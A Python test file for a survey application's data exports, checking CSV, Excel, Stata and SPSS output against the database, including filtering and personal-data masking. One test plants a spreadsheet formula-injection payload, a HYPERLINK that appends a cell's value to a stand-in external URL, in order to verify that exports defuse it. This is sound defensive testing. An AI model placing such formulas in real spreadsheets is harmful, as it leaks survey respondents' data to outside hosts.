"""Every export is read back (pandas, pyreadstat, openpyxl) and compared with the database."""

from __future__ import annotations

import json

import pandas as pd
import pyreadstat
import pytest

from exports.errors import ExportCode
from exports.tabular import FORMATS, make_filter, mask, run_export
from models.base.errors import AppError, FileCode
from models.store.errors import StoreCode
from tests.exports.fixtures import make_store


@pytest.fixture(scope="module")
def filled(tmp_path_factory):
    d = tmp_path_factory.mktemp("tab")
    store, ids = make_store(d / "a.db")
    yield store, ids
    store.close()


def db_rows(store):
    rows = {}
    for rid, status, commune, data in store.execute(
            "SELECT id, status, commune, data FROM records WHERE deleted = 0"):
        rows[rid] = (status, commune, json.loads(data))
    return rows


def s(v):
    """A cell read back as the string the database holds ('' for missing)."""
    if v is None or (isinstance(v, float) and pd.isna(v)):
        return ""
    if isinstance(v, float) and v == int(v):
        return str(int(v))
    return str(v)


def check_main_table(df, store, *, personal_cols=True):
    rows = db_rows(store)
    assert sorted(df["_id"]) == sorted(rows)
    for _, r in df.iterrows():
        status, commune, data = rows[r["_id"]]
        assert r["_status"] == status and s(r["_commune"]) == commune
        for q in ("consent", "hh_internet", "net_type", "ict_spend", "interview_date", "village"):
            assert s(r[q]) == data.get(q, ""), (q, r["_id"])
        if personal_cols:
            assert s(r["head_name"]) == data.get("head_name", "")
        nt = data.get("net_type")
        assert s(r["net_type_fibre"]) == ("" if not nt else ("1" if "fibre" in nt.split() else "0"))


def check_member_table(df, store):
    rows = db_rows(store)
    expected = sorted((rid, i, m.get("m_name", ""), m.get("m_age", ""), m.get("m_act", ""))
                      for rid, (_, _, d) in rows.items() for i, m in enumerate(d.get("mem", []), 1))
    got = sorted((r["_parent_id"], int(r["_line"]), s(r["m_name"]), s(r["m_age"]), s(r["m_act"]))
                 for _, r in df.iterrows())
    assert got == expected and len(got) == 11


def test_csv_has_a_bom_every_record_and_the_roster_linked_by_parent(filled, tmp_path):
    store, ids = filled
    res = run_export(store, out=tmp_path / "out_csv", fmt="csv")
    main, mem = (tmp_path / "out_csv" / "hh_test.csv"), (tmp_path / "out_csv" / "hh_test__mem.csv")
    assert res.files == (str(main), str(mem)) and res.records == 7
    raw = main.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "Nguyễn Văn Ấn".encode() in raw
    df = pd.read_csv(main, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    check_main_table(df, store)
    assert set(df["_status"]) == {"draft", "complete", "approved"}  # every record, status as a column
    check_member_table(pd.read_csv(mem, dtype=str, keep_default_na=False, encoding="utf-8-sig"), store)


def test_xlsx_one_sheet_per_form_and_repeat(filled, tmp_path):
    store, ids = filled
    res = run_export(store, out=tmp_path / "book.xlsx", fmt="xlsx")
    assert res.files == (str(tmp_path / "book.xlsx"),)
    sheets = pd.read_excel(tmp_path / "book.xlsx", sheet_name=None, dtype=object)
    assert list(sheets) == ["hh_test", "hh_test__mem"]
    check_main_table(sheets["hh_test"], store)
    check_member_table(sheets["hh_test__mem"], store)
    import openpyxl

    ws = openpyxl.load_workbook(tmp_path / "book.xlsx")["hh_test"]
    assert ws.freeze_panes == "A2" and ws["A1"].font.b
    col = [c.value for c in ws[1]].index("ict_spend") + 1
    assert isinstance(ws.cell(2, col).value, int)  # numbers are numeric cells


def test_xlsx_labels_for_headers_and_choices_in_english(filled, tmp_path):
    store, _ = filled
    run_export(store, out=tmp_path / "x", fmt="xlsx", lang="en", headers="labels", choices="labels")
    df = pd.read_excel(tmp_path / "x" / "hh_test.xlsx", sheet_name="hh_test", dtype=object)
    assert "Internet at home?" in df.columns and "Connection type: Fibre" in df.columns
    assert set(df["Internet at home?"].dropna()) == {"Yes", "No"}
    assert "Fibre; Mobile 4G/5G" in set(df["Connection type"].dropna())
    assert set(df["Status"]) == {"Draft", "Complete", "Approved"}


@pytest.mark.parametrize("fmt", ["dta", "sav"])
def test_stata_and_spss_files_carry_variable_and_value_labels(filled, tmp_path, fmt):
    store, _ = filled
    res = run_export(store, out=tmp_path / f"data.{fmt}", fmt=fmt)
    assert res.files == (str(tmp_path / f"data.{fmt}"), str(tmp_path / f"data__mem.{fmt}"))
    read = pyreadstat.read_dta if fmt == "dta" else pyreadstat.read_sav
    df, meta = read(res.files[0])
    labels = meta.column_names_to_labels
    assert labels["hh_internet"] == "Hộ có Internet không?" and labels["ks_status"] == "Trạng thái"
    assert meta.variable_value_labels["hh_internet"] == {1: "Có", 2: "Không"}
    assert meta.variable_value_labels["commune"][10001] == "Xã Thượng Đình"
    assert meta.variable_value_labels["ks_status"] == {1: "Nháp [draft]", 2: "Hoàn thành [complete]",
                                                       3: "Trả lại [returned]", 4: "Đã duyệt [approved]"}
    rows = db_rows(store)
    for _, r in df.iterrows():
        status, commune, data = rows[r["ks_id"]]
        assert meta.variable_value_labels["ks_status"][r["ks_status"]].endswith(f"[{status}]")
        assert s(r["hh_internet"]) == data.get("hh_internet", "")
        assert s(r["ict_spend"]) == data.get("ict_spend", "")
        assert s(r["income"]) == data.get("income", "")
        if data.get("interview_date"):
            assert str(r["interview_date"])[:10] == data["interview_date"]
    mem, mmeta = read(res.files[1])
    assert len(mem) == 11 and mmeta.variable_value_labels["m_sex"] == {1: "Nam", 2: "Nữ"}
    # non-numeric choice codes are numbered in list order and keep the code in the label
    assert mmeta.variable_value_labels["m_act_social"] == {0: "Không", 1: "Có"}
    assert set(mem["m_act_social"].dropna()) == {0.0, 1.0}


def test_english_value_labels(filled, tmp_path):
    store, _ = filled
    res = run_export(store, out=tmp_path / "en", fmt="sav", lang="en")
    df, meta = pyreadstat.read_sav(res.files[0])
    assert meta.column_names_to_labels["hh_internet"] == "Internet at home?"
    assert meta.variable_value_labels["hh_internet"] == {1: "Yes", 2: "No"}
    assert meta.variable_value_labels["ks_status"][2] == "Complete [complete]"
    assert set(df["ks_status"]) <= {1.0, 2.0, 3.0, 4.0} and len(set(df["ks_status"])) > 1


def test_filters_narrow_the_export(filled, tmp_path):
    store, _ = filled
    res = run_export(store, out=tmp_path / "f.csv", fmt="csv",
                     filter=make_filter(form_ids="hh_test", statuses=["approved"], communes=["10002"]))
    df = pd.read_csv(res.files[0], dtype=str, keep_default_na=False)
    assert len(df) == 1 and df["_status"].tolist() == ["approved"] and df["_commune"].tolist() == ["10002"]
    res = run_export(store, out=tmp_path / "g.csv", fmt="csv",
                     filter=make_filter(date_from="2025-03-11", date_to="2025-03-13"))
    df = pd.read_csv(res.files[0], dtype=str, keep_default_na=False)
    assert sorted(df["interview_date"]) == ["2025-03-11", "2025-03-12", "2025-03-13"]


def test_personal_data_dropped_or_masked(filled, tmp_path):
    store, _ = filled
    res = run_export(store, out=tmp_path / "drop", fmt="csv", personal="drop")
    main = pd.read_csv(res.files[0], dtype=str, keep_default_na=False)
    mem = pd.read_csv(res.files[1], dtype=str, keep_default_na=False)
    assert {"head_name", "phone"}.isdisjoint(main.columns) and {"m_name", "m_cccd"}.isdisjoint(mem.columns)
    assert "note_free" in main.columns  # the form's personal column says "no"
    res = run_export(store, out=tmp_path / "mask", fmt="csv", personal="mask")
    main = pd.read_csv(res.files[0], dtype=str, keep_default_na=False)
    assert "0912345678" not in main["phone"].tolist() and "*******678" in main["phone"].tolist()
    assert "N***** V** Ấ*" in main["head_name"].tolist()
    assert mask("001085012345") == "*********345"


def test_nothing_to_export_and_bad_input_are_clear(filled, tmp_path):
    store, _ = filled
    with pytest.raises(AppError) as e:
        run_export(store, out=tmp_path / "n", fmt="csv", filter=make_filter(communes=["99999"]))
    assert e.value.code is ExportCode.EXPORT_NOTHING and "99999" in e.value.message("vi")
    assert not (tmp_path / "n").exists() or not any((tmp_path / "n").iterdir())
    with pytest.raises(AppError) as e:
        make_filter(date_from="31/03/2025")
    assert e.value.code is ExportCode.EXPORT_BAD_DATE
    with pytest.raises(AppError) as e:
        run_export(store, out=tmp_path / "n", fmt="json")
    assert e.value.code is ExportCode.EXPORT_BAD_FORMAT
    with pytest.raises(AppError) as e:
        run_export(store, out=tmp_path / "n", fmt="csv", filter=make_filter(form_ids="nope"))
    assert e.value.code is StoreCode.FORM_NOT_FOUND
    (tmp_path / "file").write_text("x")
    with pytest.raises(AppError) as e:
        run_export(store, out=tmp_path / "file", fmt="csv")
    assert e.value.code is ExportCode.EXPORT_OUT_EXISTS


def test_cancel_leaves_no_partial_file(filled, tmp_path):
    import threading

    from exports.tabular import export_data
    from models.base.errors import Cancelled

    store, _ = filled
    ev = threading.Event()
    gen = export_data(store, out=tmp_path / "c", fmt="xlsx", cancel=ev)
    next(gen)
    ev.set()
    # small data: cancellation is honoured at the next check or the export completes atomically
    cancelled = False
    try:
        for _ in gen:
            pass
    except Cancelled:
        cancelled = True
    if cancelled:  # the folder the export made is removed again with whatever it held
        assert not (tmp_path / "c").exists()
    else:
        leftovers = [p.name for p in (tmp_path / "c").iterdir()]
        assert leftovers and all(not n.endswith(".part") and not n.startswith("ks-xlsx-") for n in leftovers)


def test_every_format_writes_without_error_in_both_languages(filled, tmp_path):
    store, _ = filled
    for fmt in FORMATS:
        for lang in ("vi", "en"):
            res = run_export(store, out=tmp_path / f"{fmt}_{lang}", fmt=fmt, lang=lang)
            assert res.records == 7


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])  # Stata/SPSS files are opened in C (pyreadstat)
def test_a_read_only_folder_is_the_clear_message_naming_the_file(filled, tmp_path, monkeypatch, fmt):
    """The XLSX writer's temporary folder (and every other first write) in a read-only folder
    gives the read-only message naming the chosen file — no temporary path, no English errno — and
    leaves nothing behind. (Root ignores chmod, so the refusal is simulated at the OS call.)"""
    import builtins
    import tempfile

    store = filled[0]
    ro = tmp_path / "ro"
    ro.mkdir()

    def refuse(path, *a, **kw):
        raise PermissionError(13, "Permission denied", str(path))

    real_open = builtins.open

    def guarded_open(file, mode="r", *a, **kw):
        if str(file).startswith(str(ro)) and any(m in mode for m in "wax"):
            refuse(file)
        return real_open(file, mode, *a, **kw)

    monkeypatch.setattr(tempfile, "mkdtemp", lambda *a, dir=None, prefix="", **kw: refuse(
        f"{dir}/{prefix}abc123"))
    monkeypatch.setattr(builtins, "open", guarded_open)
    with pytest.raises(AppError) as e:
        run_export(store, out=ro / f"x.{fmt}", fmt=fmt)
    monkeypatch.undo()
    assert e.value.code is FileCode.READ_ONLY
    for lang in ("vi", "en"):
        msg = e.value.message(lang)
        assert str(ro) in msg and "ks-xlsx" not in msg and "Errno" not in msg and "Permission denied" not in msg
    assert "chỉ đọc" in e.value.message("vi")
    assert list(ro.iterdir()) == []


def test_csv_text_that_excel_would_run_is_defused_numbers_are_not(tmp_path):
    """A text answer starting with = + - @ (or a tab) gets a leading apostrophe in the CSV, so
    Excel shows it instead of running it; negative numbers stay numbers; the XLSX holds text cells."""
    import csv
    import zipfile

    hostile = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
    store, ids = make_store(tmp_path / "f.db", [
        ("10001", "complete", {"consent": "1", "head_name": hostile, "phone": "+84912345678",
                               "note_free": "@SUM(1)", "hh_internet": "1", "net_type": "fibre", "ict_spend": "-5",
                               "income": "-0.5", "hh_sell": "2",
                               "mem": [{"m_name": "-Ấn", "m_age": "45", "m_sex": "1", "m_net": "2",
                                        "m_cccd": "\t001085012345"}]}),
        ("10001", "complete", {"consent": "1", "head_name": "Lê Văn Đức", "hh_internet": "2", "ict_spend": "7",
                               "income": "8", "hh_sell": "2"})])
    try:
        res = run_export(store, out=tmp_path / "o", fmt="csv")
        run_export(store, out=tmp_path / "o.xlsx", fmt="xlsx")
    finally:
        store.close()
    with open(res.files[0], encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    first = rows[0]
    assert first["head_name"] == "'" + hostile and first["phone"] == "'+84912345678"
    assert first["note_free"] == "'@SUM(1)"
    assert first["ict_spend"] == "-5" and first["income"] == "-0.5"  # numbers stay numbers
    assert rows[1]["head_name"] == "Lê Văn Đức"  # ordinary text unchanged
    with open(res.files[1], encoding="utf-8-sig", newline="") as fh:
        mem = list(csv.DictReader(fh))
    assert mem[0]["m_name"] == "'-Ấn"
    with zipfile.ZipFile(tmp_path / "o.xlsx") as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in x for x in sheets)  # never a formula cell
    assert any("=HYPERLINK(" in x and 't="inlineStr"' in x for x in sheets)


def test_no_sql_is_written_inside_exports():
    """exports/ receives rows from models/ functions (models/records/queries.py, models/indicators/compute.py)."""
    import re
    from pathlib import Path

    import exports

    for path in Path(exports.__file__).parent.glob("*.py"):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"\b(SELECT|INSERT|UPDATE|DELETE)\s+[\w*(]", text), path.name
        assert ".execute(" not in text, path.name
